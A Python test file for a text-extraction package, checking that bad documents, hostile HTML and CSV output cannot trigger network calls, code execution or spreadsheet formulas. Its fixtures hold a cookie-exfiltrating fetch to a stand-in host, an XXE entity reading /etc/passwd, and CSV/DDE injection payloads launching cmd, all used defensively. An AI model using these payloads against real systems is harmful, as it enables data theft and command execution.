"""Safety and fault tolerance: bad documents never stop a corpus, nothing touches the network,
nothing unpickles or evaluates data, and CSV cells never become spreadsheet formulas.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import socket
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

import quantex
from quantex.corpus.run import extract_corpus
from quantex.read.sources import corpus_errors, read_corpus
from quantex.write.datasets import write_dataset, write_errors

PACKAGE = Path(quantex.__file__).parent
GOOD = "date: 2024-10-22\n\nRussia launched 56 drones.\n"


# --- corpus faults: each lands in the errors table and the rest is processed -------------------------

@dataclass(frozen=True)
class Fault:
    """Files beside ``good.txt``; ``errors`` are the documents that must be reported, ``read`` those read."""

    name: str
    files: dict[str, bytes]
    errors: list[str]
    read: list[str] = field(default_factory=list)
    unreadable: tuple[str, ...] = ()  # files whose reading fails with PermissionError
    marks: tuple[pytest.MarkDecorator, ...] = ()


JSONL = b"\n".join([
    b'{"text": "Ukraine downed 40 drones.", "published": "2024-10-22"}',
    b'{"text": "5 drones"',                                    # truncated
    b"[1, 2]",                                                  # not an object
    b'{"body": "no text field"}',
    b'{"text": 5}',
    b'"just a string"',
    b'{"text": "7 tanks", "published": 20241022}',            # a number is not a date
    b"\xff\xfe not utf-8",
    b"",
    b'{"text": "Germany sent 8 tanks.", "published": "2024-10-23"}',
])

FAULTS = [
    Fault("unreadable file", {"locked.txt": GOOD.encode()}, ["locked.txt"], unreadable=("locked.txt",)),
    Fault("bad JSON lines", {"lines.jsonl": JSONL},
          [f"lines.jsonl:{n}" for n in (2, 3, 4, 5, 6, 7, 8)], ["lines.jsonl:1", "lines.jsonl:10"]),
    Fault("missing text column", {"nocol.csv": b"body,published\n5 drones,2024-10-22\n"}, ["nocol.csv"]),
    Fault("other text column name", {"texts.csv": b"Text\n5 drones\n"}, ["texts.csv"]),
    Fault("impossible date in a header", {"bad.txt": b"date: 2024-02-30\n\n8 drones.\n"}, ["bad.txt"]),
    Fault("impossible dates in a CSV", {"d.csv": b"text,published\n9 drones,2024-13-01\n10 drones,2024-10-22\n"
                                                 b"11 drones,not a date\n"}, ["d.csv:1", "d.csv:3"], ["d.csv:2"]),
    Fault("impossible live-blog time", {"blog.txt": b"date: 2024-10-22\nkind: liveblog\n\n## 25:61 Bad\n"
                                                    b"11 drones.\n\n## 10:00 Fine\n12 drones.\n"},
          ["blog.txt#1"], ["blog.txt#2"]),
    Fault("empty CSV", {"empty.csv": b""}, ["empty.csv"]),
    Fault("unclosed CSV quote", {"q.csv": b'text,published\n"13 drones,2024-10-22\n'}, ["q.csv"]),
    Fault("binary CSV", {"bin.csv": bytes(range(256)) * 4}, ["bin.csv"]),
    Fault("binary HTML", {"bin.html": bytes(range(256)) * 4}, ["bin.html"]),
    Fault("duplicate id", {"a.jsonl": b'{"id": "x", "text": "1 drone"}\n{"id": "x", "text": "2 drones"}\n'},
          ["x"], ["x"]),
    Fault("deeply nested JSON line", {"deep.jsonl": b'{"text": ' + b"[" * 50_000 + b"]" * 50_000 + b"}\n"
                                                    b'{"text": "3 tanks"}\n'}, ["deep.jsonl:1"], ["deep.jsonl:2"]),
    Fault("JSON number too long for int()",
          {"long.jsonl": b'{"text": "3 tanks", "n": ' + b"9" * 5000 + b'}\n{"text": "4 tanks"}\n'},
          ["long.jsonl:1"], ["long.jsonl:2"]),
    Fault("date beyond pandas' range", {"far.jsonl": b'{"text": "3 tanks", "published": "2263-01-01"}\n'
                                                     b'{"text": "4 tanks", "published": "2024-10-22"}\n'},
          ["far.jsonl:1"], ["far.jsonl:2"]),
    Fault("placeholder date", {"zero.txt": b"date: 0001-01-01\n\n3 tanks\n"}, ["zero.txt"]),
    Fault("wrong-typed JSON values", {"types.jsonl": b"\n".join([
        b'{"text": 5}', b'{"text": ["5 drones"]}', b'{"text": {"en": "5 drones"}}', b'{"text": null}',
        b'{"text": true}', b'{"id": ["x"], "text": "6 drones"}', b'{"text": "7 drones", "title": {"a": 1}}',
        b'{"text": "8 drones", "published": ["2024-10-22"]}', b'{"text": "9 drones", "published": null}',
    ])}, [f"types.jsonl:{n}" for n in range(1, 9)], ["types.jsonl:9"]),
    Fault("empty files", {"e.txt": b"", "e.jsonl": b"", "e.html": b"", "blank.txt": b" \n\t\n",
                          "bom.txt": b"\xef\xbb\xbf"}, ["e.txt", "e.jsonl", "e.html", "blank.txt", "bom.txt"]),
    Fault("binary files named .txt", {"png.txt": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
                                      "zeros.txt": bytes(1000), "sparse.jsonl": b'{"text": "5"}' + bytes(500)},
          ["png.txt", "zeros.txt", "sparse.jsonl"]),
    Fault("CSV with a NUL byte", {"nul.csv": b"text\n5 dr\x00ones\n", "nuls.csv": b"text\n" + bytes(100)},
          ["nuls.csv"], ["nul.csv:1"]),
    Fault("UTF-16 without a byte-order mark, Cyrillic",
          {"ru.txt": "date: 2024-10-22\n\nРосія випустила 56 дронів, 48 збито.\n".encode("utf-16-le"),
           "ru-be.txt": "Росія випустила 56 дронів.\n".encode("utf-16-be")}, ["ru.txt", "ru-be.txt"]),
    Fault("ASCII page declaring UTF-16",  # even length: as UTF-16 it would decode to CJK garbage
          {"p.html": b'<html><head><meta charset="utf-16"><title>t</title></head><body><p>Russia launched '
                     b"56 drones.</p></body></html>  "}, [], ["p.html"]),
    Fault("file name not UTF-8", {"caf\udce9.jsonl": b'{"text": "5 drones", "published": "2024-02-30"}\n'},
          ["caf\\xe9.jsonl:1"]),
]


@pytest.fixture
def unreadable(monkeypatch: pytest.MonkeyPatch) -> Callable[[tuple[str, ...]], None]:
    """Make some files fail to read (chmod does not stop root, so reading is patched)."""

    def lock(names: tuple[str, ...]) -> None:
        original = Path.read_bytes

        def read_bytes(self: Path) -> bytes:
            if self.name in names:
                raise PermissionError(13, "Permission denied", str(self))
            return original(self)

        monkeypatch.setattr(Path, "read_bytes", read_bytes)

    return lock


@pytest.mark.parametrize("fault", [pytest.param(f, id=f.name, marks=f.marks) for f in FAULTS])
def test_corpus_faults(fault: Fault, tmp_path: Path, unreadable: Callable[[tuple[str, ...]], None]) -> None:
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    for name, raw in fault.files.items():
        (tmp_path / name).write_bytes(raw)
    unreadable(fault.unreadable)
    documents = read_corpus(tmp_path)
    assert sorted(corpus_errors(documents)["document"]) == sorted(fault.errors)
    assert sorted(documents["doc_id"]) == sorted(["good.txt", *fault.read])
    assert all(len(problem) > 10 for problem in corpus_errors(documents)["problem"])  # says what is wrong
    facts = extract_corpus(tmp_path)
    assert sorted(corpus_errors(facts)["document"]) == sorted(fault.errors)
    assert "56" in facts.loc[facts["doc_id"] == "good.txt", "span"].tolist()


def test_failed_extraction_is_recorded(tmp_path: Path) -> None:
    """A document whose extraction raises is an error row; the others still give their facts."""
    docs = [{"text": "Russia launched 56 drones."}, {"text": "\ud800 57 drones"}, {"text": "Kyiv saw 58 drones."}]
    (tmp_path / "a.jsonl").write_text("\n".join(json.dumps(d) for d in docs), encoding="utf-8")
    facts = extract_corpus(tmp_path / "a.jsonl")
    errors = corpus_errors(facts)
    assert set(facts["span"]) >= {"56", "58"}
    assert set(errors["document"]) <= {"a.jsonl:2"}  # reported if (and only if) extraction failed
    assert "a.jsonl:2" in set(errors["document"]) or "57" in set(facts["span"])


# --- no network ---------------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0; url=http://example.invalid/">
<link rel="stylesheet" href="http://example.invalid/s.css"><base href="http://example.invalid/">
<script src="http://example.invalid/a.js"></script>
<script>fetch("http://example.invalid/?c=" + document.cookie); var x = "999 drones";</script>
<style>@import url(http://example.invalid/x.css); p { background: url(http://example.invalid/b.png) }</style>
<title>Aid</title><meta property="article:published_time" content="2024-10-22T09:00:00Z">
</head><body onload="fetch('http://example.invalid/')">
<article><p>Denmark pledged <b>$5</b> billion and 56 drones.</p>
<img src="http://example.invalid/i.png" onerror="fetch('http://example.invalid/')">
<iframe src="http://example.invalid/frame">999 tanks</iframe>
<object data="http://example.invalid/o.swf"></object><embed src="http://example.invalid/e.swf">
<video src="http://example.invalid/v.mp4" poster="http://example.invalid/p.png"></video>
<svg><image href="http://example.invalid/s.png"/><script>777 missiles</script></svg>
<a href="javascript:fetch('http://example.invalid/')">link</a>
</article></body></html>
"""
XXE_XHTML = """<?xml version="1.0"?>
<!DOCTYPE html [<!ENTITY leak SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "http://example.invalid/e">]>
<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&leak; &far; Kyiv downed 12 drones.</p></body></html>
"""


def write_hostile_pages(folder: Path) -> None:
    (folder / "page.html").write_text(HOSTILE_HTML, encoding="utf-8")
    (folder / "xxe.xhtml").write_text(XXE_XHTML, encoding="utf-8")


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Fail any attempt to resolve a name or open an internet connection; yields the attempts."""
    attempts: list[str] = []

    def deny(what: str) -> Callable[..., object]:
        def refuse(*args: object, **kwargs: object) -> object:
            attempts.append(f"{what}{args[1:] if what.startswith('socket.') else args}")
            raise OSError(f"network access attempted: {what}")
        return refuse

    original_connect = socket.socket.connect

    def connect(self: socket.socket, address: object) -> None:
        if self.family == getattr(socket, "AF_UNIX", None):  # local process plumbing, not network
            return original_connect(self, address)  # type: ignore[arg-type]
        deny("socket.connect")(self, address)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", deny("socket.connect_ex"))
    monkeypatch.setattr(socket, "create_connection", deny("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", deny("getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", deny("gethostbyname"))
    with pytest.raises(OSError, match="network access attempted"):
        socket.create_connection(("example.invalid", 80))
    attempts.clear()
    yield attempts
    assert attempts == []


def test_no_network_in_process(no_network: list[str], tmp_path: Path) -> None:
    frame = quantex.extract("Britain will loan £2.26 billion; Japan gave ¥100 billion.", published="2024-10-22")
    assert frame["value_usd"].notna().all()
    write_hostile_pages(tmp_path)
    documents = read_corpus(tmp_path)
    page = documents.set_index("doc_id").loc["page.html"]
    assert "56 drones" in page["text"]
    assert "$5 billion" in page["text"]
    for hidden in ("999", "777", "fetch", "document.cookie", "example.invalid"):
        assert hidden not in page["text"]
    assert "root:" not in documents.set_index("doc_id").loc["xxe.xhtml", "text"]
    facts = extract_corpus(tmp_path)
    assert sorted(facts["span"]) == ["$5 billion", "12", "56"]
    write_dataset(facts, tmp_path / "out" / "facts.csv")


def test_no_network_from_import_on(tmp_path: Path) -> None:
    """A fresh interpreter with an audit hook that refuses any socket, from ``import quantex`` on."""
    write_hostile_pages(tmp_path)
    script = textwrap.dedent(f"""
        import sys
        def refuse(event, args):
            if event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "urllib.Request",
                         "socket.bind", "subprocess.Popen", "os.system", "os.exec", "os.spawn"):
                raise RuntimeError(f"refused {{event}} {{args!r}}")
        sys.addaudithook(refuse)
        import quantex
        from quantex.corpus.run import extract_corpus
        from quantex.write.datasets import write_dataset
        quantex.extract("Denmark pledged 1.3bn kroner.", published="2024-10-22")
        facts = extract_corpus({str(tmp_path)!r})
        write_dataset(facts, {str(tmp_path / "out" / "facts.parquet")!r})
        import socket
        try:
            socket.getaddrinfo("example.invalid", 80)
        except RuntimeError:
            print(len(facts))  # the hook works, and quantex never tripped it
    """)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(PACKAGE.parent), os.environ.get("PYTHONPATH", "")])}
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=120,
                          check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "3"


# --- nothing in the package unpickles, evaluates or runs data ----------------------------------------

FORBIDDEN = {
    "pickle and friends": r"\bimport\s+(?:pickle|marshal|shelve|dill|cloudpickle)\b|"
                          r"\b(?:pickle|marshal|shelve|dill|cloudpickle)\.\w+|read_pickle",
    "eval": r"(?<![\w.])eval\(|\.eval\(",
    "exec": r"(?<![\w.])exec\(",
    "unsafe YAML": r"\byaml\.(?:load|unsafe_load|full_load|load_all)\(",
    "shell": r"\bos\.(?:system|popen)\(|shell\s*=\s*True|__import__\(",
    "network": r"\burllib\.request\b|\burlopen\(|\bimport\s+requests\b|\bhttp\.client\b|\bimport\s+socket\b",
}

#: (file, line, why it is safe). Each must still be there, so the list cannot go stale.
ALLOWED = [
    ("corpus/pool.py", "import pickle", "tests whether a worker's own exception survives the trip to the parent"),
    ("corpus/pool.py", "pickle.loads(pickle.dumps(cause))", "round trip of an object made in this process, "
     "never bytes from a file or a user"),
    # `quantex rates update` is the one command that uses the network (issue 15); extraction never does
    # (tests/money/test_rates.py::test_extraction_never_touches_the_network)
    ("money/rates.py", "import urllib.request", "the rates update: fixed publisher URLs, an opener tests inject"),
    ("money/rates.py", 'request = urllib.request.Request(url, headers={"User-Agent": "quantex rates update"})',
     "the ECB, NBU and CBR addresses of money/rates.py, nothing from a document"),
    ("money/rates.py", "with urllib.request.urlopen(request, timeout=TIMEOUT) as response:",
     "with a timeout; its bytes are parsed as data (csv, JSON, XML), never run"),
]


def code_lines() -> Iterator[tuple[str, int, str]]:
    for path in sorted(PACKAGE.rglob("*.py")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            yield path.relative_to(PACKAGE).as_posix(), number, line


def test_no_unsafe_calls_in_the_package() -> None:
    hits = [(name, number, line.strip(), what) for name, number, line in code_lines()
            for what, pattern in FORBIDDEN.items() if re.search(pattern, line)]
    allowed = {(name, line) for name, line, _ in ALLOWED}
    unexpected = [hit for hit in hits if (hit[0], hit[2]) not in allowed]
    assert unexpected == [], unexpected
    stale = allowed - {(hit[0], hit[2]) for hit in hits}
    assert stale == set(), f"allow-list entries no longer in the code: {stale}"


# --- CSV formula injection ------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click") Russia launched 56 drones.',
    "+1+cmd|' /C calc'!A0 Russia launched 56 drones.",
    "-2+3+cmd|' /C calc'!A0 Russia launched 56 drones.",
    "@SUM(1+1)*cmd|' /C calc'!A0 Russia launched 56 drones.",
]


def read_back(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", INJECTIONS)
def test_formulas_neutralized_in_csv(text: str, tmp_path: Path) -> None:
    facts = quantex.extract(text)
    assert facts["sentence"].str.startswith(text[0]).any()
    rows = read_back(write_dataset(facts, tmp_path / "facts.csv"))
    sentences = [row["sentence"] for row in rows if row["sentence"].lstrip("'").startswith(text[0])]
    assert sentences, rows
    for cell in sentences:
        assert cell.startswith("'")
        assert cell[1:] == text


def test_formulas_neutralized_in_corpus_columns(tmp_path: Path) -> None:
    record = {"id": "=1+1", "title": "@SUM(A1:A9)", "url": "=HYPERLINK(\"http://example.invalid\")",
              "text": "Russia launched 56 drones.", "published": "2024-10-22"}
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    (tmp_path / "in" / "+cmd.csv").write_text("body\nx\n", encoding="utf-8")  # an error row named "+cmd.csv"
    facts = extract_corpus(tmp_path / "in")
    (row,) = read_back(write_dataset(facts, tmp_path / "facts.csv"))
    assert (row["doc_id"], row["title"], row["url"]) == ("'=1+1", "'@SUM(A1:A9)", "'" + record["url"])
    assert row["value"] == "56.0"
    (error,) = read_back(write_errors(corpus_errors(facts), tmp_path / "errors.csv"))
    assert error["document"] == "'+cmd.csv"


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_formulas_neutralized_by_the_streaming_command(fmt: str, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """`quantex extract` writes batch by batch; its CSV is as formula-safe as write_dataset's, JSONL untouched."""
    from quantex.cli import main

    record = {"id": "=1+1", "title": "@SUM(A1:A9)", "text": INJECTIONS[0], "published": "2024-10-22"}
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    assert main(["extract", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--format", fmt, "-q"]) == 0
    capsys.readouterr()
    path = tmp_path / "out" / f"facts.{fmt}"
    if fmt == "csv":
        rows = read_back(path)
        assert {(row["doc_id"], row["title"]) for row in rows} == {("'=1+1", "'@SUM(A1:A9)")}
        assert all(row["sentence"] == "'" + INJECTIONS[0] for row in rows)
        assert "56.0" in {row["value"] for row in rows}
    else:
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        assert {row["doc_id"] for row in rows} == {"=1+1"}
        assert 56.0 in {row["value"] for row in rows}
    package = json.loads((tmp_path / "out" / "datapackage.json").read_text(encoding="utf-8"))
    resource = next(r for r in package["resources"] if r["path"] == path.name)
    assert resource["hash"] == "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()
    types = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
    assert (types["published"], types["fx_date"], types["value"]) == ("datetime", "date", "number")


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    facts = quantex.extract("The temperature fell to -5 degrees.")
    (row,) = read_back(write_dataset(facts, tmp_path / "facts.csv"))
    assert row["value"] == "-5.0"
    assert row["span"] == "'-5"  # the text cell is guarded; the number is not
    assert pd.read_csv(tmp_path / "facts.csv")["value"].tolist() == [-5.0]


# --- an interrupted `quantex extract` can be run again ----------------------------------------------

def run_extract(source: Path, out: Path) -> dict[str, bytes]:
    from quantex.cli import main

    assert main(["extract", str(source), "-o", str(out), "-q", "--force"]) == 0
    return {p.name: p.read_bytes() for p in sorted(out.iterdir())}


def assert_whole(folder: Path, before: dict[str, bytes], after: dict[str, bytes]) -> None:
    """No temporary file; each data file as the old or the new run wrote it; the data package matches them."""
    left = {p.name: p.read_bytes() for p in sorted(folder.iterdir())} if folder.exists() else {}
    assert not [name for name in left if name.startswith(".") or name.endswith(".tmp")], sorted(left)
    for name in ("facts.csv", "errors.csv"):
        assert left.get(name) in (before.get(name), after[name]), name
    if "datapackage.json" in left:
        for resource in json.loads(left["datapackage.json"])["resources"]:
            data = left[resource["path"]]
            assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest(), resource["path"]


@pytest.mark.parametrize("crash_in", ["facts.csv", "errors.csv"], ids=["writing facts.csv", "writing errors.csv"])
@pytest.mark.parametrize("previous", [False, True], ids=["first run", "over a previous run"])
def test_interrupted_extract_leaves_complete_outputs(
    crash_in: str, previous: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Ctrl-C halfway through a CSV leaves each output whole (old or absent); running again completes it."""
    corpus, out, clean = tmp_path / "corpus", tmp_path / "run" / "out", tmp_path / "clean" / "out"
    corpus.mkdir()
    (corpus / "a.txt").write_text(GOOD, encoding="utf-8")
    (corpus / "b.jsonl").write_bytes(b'{"text": "Kyiv downed 12 drones."}\nnot json\n')
    expected = run_extract(corpus, clean)
    assert {"facts.csv", "errors.csv"} <= set(expected)
    before = run_extract(corpus / "a.txt", out) if previous else {}  # an older, smaller dataset
    original = pd.DataFrame.to_csv
    calls = []

    def interrupted(self: pd.DataFrame, path: object = None, **kwargs: object) -> object:
        # a path (whole-file writers) or an open handle (the streaming writer appends batch by batch)
        name = str(path) if isinstance(path, (str, Path)) else str(getattr(path, "name", path))
        calls.append(name)
        if Path(name).name.lstrip(".").startswith(crash_in):
            if hasattr(path, "write"):
                path.write("fact_id,sta")  # half a file, then Ctrl-C
            else:
                Path(name).write_text("fact_id,sta", encoding="utf-8")
            raise KeyboardInterrupt
        return original(self, path, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(pd.DataFrame, "to_csv", interrupted)
    from quantex.cli import main

    assert main(["extract", str(corpus), "-o", str(out), "-q", "--force"]) == 130  # interrupted, as Ctrl-C
    monkeypatch.undo()
    assert not [p.name for p in out.parent.iterdir() if p.name.startswith(".")]  # no staging folder left
    assert_whole(out, before, expected)
    assert run_extract(corpus, out) == expected
    capsys.readouterr()
